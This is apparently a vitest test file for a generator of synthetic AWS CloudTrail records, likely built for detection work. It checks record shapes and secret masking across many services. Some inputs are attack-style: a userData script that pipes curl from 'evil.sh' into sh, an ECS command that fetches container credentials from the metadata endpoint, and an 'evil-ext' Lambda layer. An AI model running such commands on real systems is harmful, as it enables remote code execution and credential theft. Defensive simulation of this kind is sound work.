import { describe, expect, it } from 'vitest';
import { handOperations } from '../../src/catalog/services/index.js';
import { defaultCatalog } from '../../src/catalog/catalog.js';
import { requestFor } from '../../src/catalog/request.js';
import { deniedResourceArn } from '../../src/catalog/denied-resource.js';
import type { CallContext, OperationSpec } from '../../src/catalog/types.js';
import type { JsonObject, JsonValue } from '../../src/record/types.js';
import { ACCOUNT, OTHER_ACCOUNT, ROLE_SESSION, S3_SERVICE, fakeContext } from './fake-world.js';

const hand = handOperations();
const catalog = defaultCatalog();

/** Runs every builder of `spec` once and returns what they produced. */
function run(spec: OperationSpec, ctx: CallContext) {
  const request = requestFor(spec, ctx);
  const response = spec.response ? spec.response(ctx, request) : null;
  const resources = spec.resources ? spec.resources(ctx, request, response) : undefined;
  const additionalEventData = spec.additionalEventData ? spec.additionalEventData(ctx, request) : undefined;
  const errors = (spec.errors ?? []).map((e) => ({ code: e.code, message: e.message(ctx, request), messageOnly: e.messageOnly === true }));
  const owner = spec.resourceOwner ? spec.resourceOwner(ctx, request) : undefined;
  const host = spec.host ? spec.host(ctx.region, request) : undefined;
  return { request, response, resources, additionalEventData, errors, owner, host };
}

function call(name: string, params: JsonObject = {}, opts: Parameters<typeof fakeContext>[1] = {}) {
  const spec = catalog.resolve(name);
  return { spec, ...run(spec, fakeContext(name, { ...opts, params })) };
}

/** True when `v` survives a JSON round trip unchanged (no undefined, functions, NaN, Dates). */
function isPlainJson(v: unknown): boolean {
  if (v === null || typeof v === 'string' || typeof v === 'boolean') return true;
  if (typeof v === 'number') return Number.isFinite(v);
  if (Array.isArray(v)) return v.every(isPlainJson);
  if (typeof v === 'object') return Object.getPrototypeOf(v) === Object.prototype && Object.values(v as object).every((x) => x !== undefined && isPlainJson(x));
  return false;
}

describe('hand-tuned operations', () => {
  it('has at least 150 operations across at least 20 services', () => {
    expect(hand.length).toBeGreaterThanOrEqual(150);
    expect(new Set(hand.map((s) => s.eventSource)).size).toBeGreaterThanOrEqual(20);
    expect(hand.every((s) => s.origin === 'hand')).toBe(true);
  });

  it('has no two operations with the same eventSource and name', () => {
    const keys = hand.map((s) => `${s.eventSource}|${s.name}`);
    expect(new Set(keys).size).toBe(keys.length);
  });

  it('wins over the generated entry of the same name', () => {
    for (const s of hand) expect(catalog.resolve(`${s.eventSource}:${s.name}`)).toBe(s);
  });

  it('produces JSON-serialisable output from every builder', () => {
    for (const spec of hand) {
      for (const identity of [undefined, ROLE_SESSION, S3_SERVICE]) {
        const out = run(spec, fakeContext(`${spec.service}:${spec.name}`, { identity }));
        expect(isPlainJson(out.request), `${spec.name} request`).toBe(true);
        expect(isPlainJson(out.response), `${spec.name} response`).toBe(true);
        expect(isPlainJson(out.additionalEventData ?? null), `${spec.name} additionalEventData`).toBe(true);
        for (const r of out.resources ?? []) {
          expect(typeof (r.ARN ?? (r as { ARNPrefix?: string }).ARNPrefix), `${spec.name} resources`).toBe('string');
          // SSM GetParameters writes resources without a type (sample record).
          if (r.type !== undefined) expect(r.type).toMatch(/^AWS::\w+::\w+$/);
        }
        for (const e of out.errors) expect(typeof e.message).toBe('string');
      }
    }
  });

  it('is deterministic for the same seed, and varies with the seed', () => {
    let differs = 0;
    for (const spec of hand) {
      const a = JSON.stringify(run(spec, fakeContext(`seed-${spec.name}`)));
      const b = JSON.stringify(run(spec, fakeContext(`seed-${spec.name}`)));
      expect(a, spec.name).toBe(b);
      if (JSON.stringify(run(spec, fakeContext(`other-${spec.name}`))) !== a) differs++;
    }
    expect(differs).toBeGreaterThan(hand.length / 2);
  });

  it('keeps responseElements null for reads (credential-vending STS calls aside)', () => {
    for (const spec of hand.filter((s) => s.readOnly && !(s.service === 'sts' && s.name.startsWith('AssumeRole')))) {
      expect(run(spec, fakeContext(spec.name)).response, spec.name).toBeNull();
    }
  });

  it('marks data events with the data resource type trails select them by', () => {
    const data = hand.filter((s) => s.category === 'Data');
    const types = new Set(data.map((s) => s.dataResourceType));
    expect(types).toEqual(new Set(['AWS::S3::Object', 'AWS::Lambda::Function', 'AWS::DynamoDB::Table', 'AWS::SNS::Topic', 'AWS::SQS::Queue']));
    for (const n of ['GetObject', 'PutObject', 'DeleteObject', 'HeadObject', 'CopyObject', 'ListObjects', 'ListObjectsV2']) expect(catalog.resolve(`s3:${n}`).category).toBe('Data');
    for (const n of ['GetItem', 'PutItem', 'UpdateItem', 'DeleteItem', 'Query', 'Scan', 'BatchGetItem', 'BatchWriteItem']) expect(catalog.resolve(`dynamodb:${n}`).dataResourceType).toBe('AWS::DynamoDB::Table');
    expect(catalog.resolve('lambda:Invoke').dataResourceType).toBe('AWS::Lambda::Function');
    expect(catalog.resolve('s3:ListBuckets').category).toBe('Management');
  });
});

describe('shapes from real records', () => {
  it('S3 bucket reads: bucketName, Host, empty sub-resource key, S3 request ids and additionalEventData', () => {
    const r = call('s3:GetBucketAcl');
    expect(r.spec.requestIdStyle).toBe('s3');
    expect(r.request).toMatchObject({ acl: '' });
    expect(r.request!.Host).toBe(`${r.request!.bucketName}.s3.eu-west-1.amazonaws.com`);
    expect(Object.keys(r.additionalEventData!)).toEqual(['SignatureVersion', 'CipherSuite', 'bytesTransferredIn', 'AuthenticationMethod', 'x-amz-id-2', 'bytesTransferredOut']);
    expect(r.resources).toEqual([{ ARN: `arn:aws:s3:::${r.request!.bucketName}`, accountId: ACCOUNT, type: 'AWS::S3::Bucket' }]);
    expect(r.host).toBe(r.request!.Host);
    const codes = catalog.resolve('s3:GetBucketPolicy').errors!.map((e) => e.code);
    expect(codes).toContain('NoSuchBucketPolicy');
    expect(catalog.resolve('s3:DeleteBucket').errors!.map((e) => e.code)).toEqual(expect.arrayContaining(['BucketNotEmpty', 'NoSuchBucket']));
  });

  it('S3 object data events: object ARN first (no accountId), then the bucket', () => {
    const r = call('s3:GetObject', { bucketName: 'fake-bucket-a', key: 'reports/2024/q1.csv' });
    expect(r.request).toEqual({ bucketName: 'fake-bucket-a', Host: 'fake-bucket-a.s3.eu-west-1.amazonaws.com', key: 'reports/2024/q1.csv' });
    expect(r.resources).toEqual([
      { ARN: 'arn:aws:s3:::fake-bucket-a/reports/2024/q1.csv', type: 'AWS::S3::Object' },
      { ARN: 'arn:aws:s3:::fake-bucket-a', accountId: ACCOUNT, type: 'AWS::S3::Bucket' },
    ]);
    expect(r.additionalEventData!.bytesTransferredOut).toBeGreaterThan(0);
    expect(catalog.resolve('s3:ListObjectsV2').eventName).toBe('ListObjects');
    expect(call('s3:ListObjectsV2').request).toMatchObject({ 'list-type': '2', prefix: '', 'encoding-type': 'url' });
  });

  it('S3 on another account\'s bucket names that account as the resource owner', () => {
    const r = call('s3:GetObject', { bucketName: 'fake-bucket-a-other', key: 'x.txt' });
    expect(r.owner).toBe(OTHER_ACCOUNT);
    expect(r.resources![1].accountId).toBe(OTHER_ACCOUNT);
  });

  it('PutBucketVersioning: benign Enabled by default, Suspended when asked, xmlns kept', () => {
    expect(call('s3:PutBucketVersioning').request!.VersioningConfiguration).toEqual({ Status: 'Enabled', xmlns: 'http://s3.amazonaws.com/doc/2006-03-01/' });
    const attack = call('s3:PutBucketVersioning', { VersioningConfiguration: { Status: 'Suspended' } });
    expect(attack.request!.VersioningConfiguration).toEqual({ Status: 'Suspended', xmlns: 'http://s3.amazonaws.com/doc/2006-03-01/' });
    expect(JSON.stringify(attack.request)).toContain('Suspended');
  });

  it('S3 event names differ from API names where CloudTrail says so', () => {
    expect(catalog.resolve('s3:PutBucketLifecycleConfiguration').eventName).toBe('PutBucketLifecycle');
    expect(catalog.resolve('s3:GetPublicAccessBlock').eventName).toBe('GetBucketPublicAccessBlock');
    // The deprecated API of the same name is logged under the same eventName.
    expect(catalog.resolve('s3:PutBucketLifecycle').eventName ?? 'PutBucketLifecycle').toBe('PutBucketLifecycle');
  });

  it('ConsoleLogin: AwsConsoleSignIn, global, null request, MFAUsed, message-only failure', () => {
    const r = call('signin:ConsoleLogin');
    expect(r.spec).toMatchObject({ eventSource: 'signin.amazonaws.com', eventType: 'AwsConsoleSignIn', global: true, readOnly: false, requestIdStyle: 'none' });
    expect(r.request).toBeNull();
    expect(r.response).toEqual({ ConsoleLogin: 'Success' });
    expect(['Yes', 'No']).toContain(r.additionalEventData!.MFAUsed);
    expect(r.additionalEventData!.MobileVersion).toBe('No');
    expect(String(r.additionalEventData!.LoginTo)).toMatch(/^https:\/\/console\.aws\.amazon\.com\//);
    const fail = r.errors.find((e) => e.message === 'Failed authentication')!;
    expect(fail.messageOnly).toBe(true);
    expect(r.host).toBe('signin.aws.amazon.com');
    // A caller whose session says MFA gets MFAUsed "Yes" with the device.
    const mfa = call('signin:ConsoleLogin', {}, { identity: { type: 'IAMUser', userName: 'alice', arn: `arn:aws:iam::${ACCOUNT}:user/alice`, accountId: ACCOUNT, sessionContext: { attributes: { creationDate: '2024-05-01T00:00:00Z', mfaAuthenticated: 'true' } } } });
    expect(mfa.additionalEventData).toMatchObject({ MFAUsed: 'Yes', MFAIdentifier: `arn:aws:iam::${ACCOUNT}:mfa/alice` });
    expect(call('signin:GetSigninToken').response).toEqual({ GetSigninToken: 'Success' });
  });

  it('AssumeRole: read-only, credentials and assumed-role user, role in resources, cross-account owner', () => {
    const roleArn = `arn:aws:iam::${OTHER_ACCOUNT}:role/audit`;
    const r = call('sts:AssumeRole', { roleArn, roleSessionName: 'audit-session' });
    expect(r.spec.readOnly).toBe(true);
    expect(r.spec.global).toBeUndefined();
    const creds = r.response!.credentials as JsonObject;
    expect(creds.accessKeyId).toMatch(/^ASIA[A-Z2-7]{16}$/);
    expect(String(creds.sessionToken)).toMatch(/^IQoJb3JpZ2luX2Vj/);
    expect(String(creds.expiration)).toMatch(/^[A-Z][a-z]{2} \d{1,2}, \d{4}, \d{1,2}:\d{2}:\d{2} [AP]M$/);
    expect(r.response!.assumedRoleUser).toMatchObject({ arn: `arn:aws:sts::${OTHER_ACCOUNT}:assumed-role/audit/audit-session` });
    expect(String((r.response!.assumedRoleUser as JsonObject).assumedRoleId)).toMatch(/^AROA[A-Z2-7]{17}:audit-session$/);
    expect(r.resources).toEqual([{ ARN: roleArn, accountId: OTHER_ACCOUNT, type: 'AWS::IAM::Role' }]);
    expect(r.owner).toBe(OTHER_ACCOUNT);
    expect(catalog.resolve('sts:GetSessionToken').readOnly).toBe(false);
    expect(catalog.resolve('sts:GetFederationToken').readOnly).toBe(false);
    expect(catalog.resolve('sts:GetCallerIdentity').readOnly).toBe(true);
    for (const n of ['AssumeRoleWithSAML', 'AssumeRoleWithWebIdentity', 'DecodeAuthorizationMessage', 'GetAccessKeyInfo']) expect(catalog.has(`sts:${n}`)).toBe(true);
  });

  it('AssumeRole by a service gets the service\'s session name', () => {
    const r = call('sts:AssumeRole', {}, { identity: { type: 'AWSService', invokedBy: 'lambda.amazonaws.com' } });
    expect(String(r.request!.roleSessionName)).toMatch(/^awslambda_\d+_\d{17}$/);
  });

  it('IAM: policy documents are JSON strings in requests and URL-encoded in responses', () => {
    const put = call('iam:PutUserPolicy');
    expect(typeof put.request!.policyDocument).toBe('string');
    expect(JSON.parse(String(put.request!.policyDocument)).Version).toBe('2012-10-17');
    const role = call('iam:CreateRole', { roleName: 'x' });
    const doc = String((role.response!.role as JsonObject).assumeRolePolicyDocument);
    expect(doc).toMatch(/^%7B/);
    expect(JSON.parse(decodeURIComponent(doc)).Statement[0].Action).toBe('sts:AssumeRole');
    const s3browser = call('iam:PutUserPolicy', { policyDocument: '{"Statement":[{"Effect":"Allow","Action":["s3:GetObject"],"Resource":["arn:aws:s3:::<YOUR-BUCKET-NAME>/*"]}]}' });
    expect(JSON.stringify(s3browser.request)).toContain('\\"arn:aws:s3:::<YOUR-BUCKET-NAME>/*\\"');
    expect(catalog.resolve('iam:CreateUser').global).toBe(true);
    expect(catalog.resolve('iam:GetUser').errors!.map((e) => e.code)).toContain('NoSuchEntityException');
    expect(catalog.resolve('iam:CreateUser').errors!.map((e) => e.code)).toContain('EntityAlreadyExistsException');
    expect(catalog.resolve('iam:DeleteLoginProfile').errors!.map((e) => e.code)).toContain('EntityTemporarilyUnmodifiableException');
    const key = call('iam:CreateAccessKey', { userName: 'bob' }).response!.accessKey as JsonObject;
    expect(key).toMatchObject({ userName: 'bob', status: 'Active' });
    expect(key.secretAccessKey).toBeUndefined();
  });

  it('IAM passwords never reach the record', () => {
    expect(call('iam:CreateLoginProfile', { password: 'hunter2!' }).request!.password).toBeUndefined();
    expect(call('iam:UpdateLoginProfile', { password: 'hunter2!' }).request).toEqual({ userName: expect.any(String) });
  });

  it('EC2 ModifyInstanceAttribute: benign by default; user data masked; generic form keeps `attribute`', () => {
    expect(call('ec2:ModifyInstanceAttribute').request!.userData).toBeUndefined();
    const stratus = call('ec2:ModifyInstanceAttribute', { userData: '#!/bin/bash\ncurl evil.sh | sh' });
    expect(stratus.request!.userData).toBe('<sensitiveDataRemoved>');
    expect(stratus.request!.attribute).toBeUndefined();
    expect(Object.keys(stratus.request!).sort()).toEqual(['instanceId', 'userData']);
    expect(stratus.response).toMatchObject({ _return: true });
    const generic = call('ec2:ModifyInstanceAttribute', { attribute: 'userData', value: 'IyEvYmluL2Jhc2g=' });
    expect(generic.request).toMatchObject({ attribute: 'userData', value: '<sensitiveDataRemoved>' });
    expect(call('ec2:RunInstances', { userData: 'secret' }).request!.userData).toBe('<sensitiveDataRemoved>');
    expect(catalog.resolve('ec2:DescribeInstanceAttribute').errors!.map((e) => e.code)).toContain('Client.InvalidInstanceID.NotFound');
  });

  it('EC2 newer APIs log wrapped requests and responses with the namespace', () => {
    const r = call('ec2:DeleteFlowLogs');
    expect(Object.keys(r.request!)).toEqual(['DeleteFlowLogsRequest']);
    expect(r.response!.DeleteFlowLogsResponse).toMatchObject({ xmlns: 'http://ec2.amazonaws.com/doc/2016-11-15/' });
    expect(call('ec2:DisableEbsEncryptionByDefault').response!.DisableEbsEncryptionByDefaultResponse).toMatchObject({ ebsEncryptionByDefault: false });
  });

  it('RDS: masked master password and boolean publiclyAccessible', () => {
    const benign = call('rds:ModifyDBInstance');
    expect((benign.response!.pendingModifiedValues as JsonObject).masterUserPassword).toBeUndefined();
    const reset = call('rds:ModifyDBInstance', { dBInstanceIdentifier: 'orders-db', masterUserPassword: 'N3wP@ss!', applyImmediately: true });
    expect(reset.request!.masterUserPassword).toBe('****');
    expect((reset.response!.pendingModifiedValues as JsonObject).masterUserPassword).toBe('****');
    expect(call('rds:RestoreDBInstanceFromDBSnapshot').response!.publiclyAccessible).toBe(false);
    expect(call('rds:RestoreDBInstanceFromDBSnapshot', { publiclyAccessible: true }).response!.publiclyAccessible).toBe(true);
  });

  it('GuardDuty UpdateDetector: enable is a JSON boolean, true unless disabled', () => {
    expect(call('guardduty:UpdateDetector').request!.enable).toBe(true);
    expect(call('guardduty:UpdateDetector', { enable: false }).request!.enable).toBe(false);
    expect(call('guardduty:UpdateDetector').response).toBeNull();
  });

  it('ECS container commands are arrays; the credential-theft command passes through', () => {
    const benign = call('ecs:RegisterTaskDefinition');
    const cmd = ((benign.request!.containerDefinitions as JsonObject[])[0].command) as JsonValue[];
    expect(Array.isArray(cmd)).toBe(true);
    expect(JSON.stringify(cmd)).not.toContain('AWS_CONTAINER_CREDENTIALS_RELATIVE_URI');
    const attack = call('ecs:RegisterTaskDefinition', { containerDefinitions: [{ name: 'x', image: 'alpine', command: ['sh', '-c', 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'], environment: [{ name: 'TOKEN', value: 'abc' }] }] });
    const defs = attack.request!.containerDefinitions as JsonObject[];
    expect((defs[0].command as string[])[2]).toContain('$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI');
    expect((defs[0].environment as JsonObject[])[0].value).toBe('HIDDEN_DUE_TO_SECURITY_REASONS');
  });

  it('Lambda event names carry the API version; layers reach the request', () => {
    expect(catalog.resolve('lambda:UpdateFunctionConfiguration').eventName).toBe('UpdateFunctionConfiguration20150331v2');
    expect(catalog.resolve('lambda:AddPermission').eventName).toBe('AddPermission20150331v2');
    expect(catalog.resolve('lambda:CreateFunctionUrlConfig').eventName).toBe('CreateFunctionUrlConfig20211031');
    expect(catalog.resolve('lambda:Invoke').eventName).toBeUndefined();
    const layer = `arn:aws:lambda:eu-west-1:${ACCOUNT}:layer:evil-ext:1`;
    const r = call('lambda:UpdateFunctionConfiguration', { layers: [layer], environment: { variables: { SECRET: 'x' } } });
    expect(r.request!.layers).toEqual([layer]);
    expect(r.request!.environment).toEqual({});
    expect((r.response!.layers as JsonObject[])[0].arn).toBe(layer);
  });

  it('SSM SendCommand hides parameters; DynamoDB hides key values', () => {
    expect(call('ssm:SendCommand', { parameters: { commands: ['id'] } }).request!.parameters).toBe('HIDDEN_DUE_TO_SECURITY_REASONS');
    const item = call('dynamodb:GetItem');
    expect(Object.values(item.request!.key as JsonObject).every((v) => v === 'HIDDEN_DUE_TO_SECURITY_REASONS')).toBe(true);
    expect(item.spec.apiVersion).toBe('2012-08-10');
    expect(catalog.resolve('logs:CreateLogStream').apiVersion).toBe('20140328');
  });

  it('KMS calls from S3 carry the S3 encryption context', () => {
    const r = call('kms:GenerateDataKey', {}, { identity: S3_SERVICE });
    expect(Object.keys(r.request!.encryptionContext as JsonObject)).toEqual(['aws:s3:arn']);
    expect(r.resources![0].type).toBe('AWS::KMS::Key');
    expect(r.spec.readOnly).toBe(true);
  });

  it('CloudTrail trail API and Lake calls are all present', () => {
    for (const n of ['CreateTrail', 'UpdateTrail', 'DeleteTrail', 'StartLogging', 'StopLogging', 'GetTrailStatus', 'DescribeTrails', 'GetTrail', 'PutEventSelectors', 'GetEventSelectors', 'PutInsightSelectors', 'GetInsightSelectors', 'LookupEvents', 'CreateEventDataStore', 'StartQuery', 'GetQueryResults']) {
      expect(catalog.resolve(`cloudtrail:${n}`).origin, n).toBe('hand');
    }
    // Real CloudTrail records of these calls carry no resources[]; denials still name the trail.
    const stop = call('cloudtrail:StopLogging', { name: 'org-trail' });
    expect(stop.resources).toBeUndefined();
    const ctx = fakeContext(1, { params: { name: 'org-trail' } });
    expect(deniedResourceArn(stop.spec, ctx, requestFor(stop.spec, ctx))).toBe(`arn:aws:cloudtrail:eu-west-1:${ACCOUNT}:trail/org-trail`);
  });

  it('global services are marked global; regional ones are not', () => {
    for (const n of ['iam:ListUsers', 'signin:ConsoleLogin', 'organizations:DescribeOrganization', 'cloudfront:ListDistributions', 'route53:ListHostedZones', 'route53domains:ListDomains', 'account:EnableRegion']) expect(catalog.resolve(n).global, n).toBe(true);
    for (const n of ['sts:AssumeRole', 's3:ListBuckets', 'ec2:DescribeInstances', 'kms:Decrypt']) expect(catalog.resolve(n).global, n).toBeUndefined();
  });
});
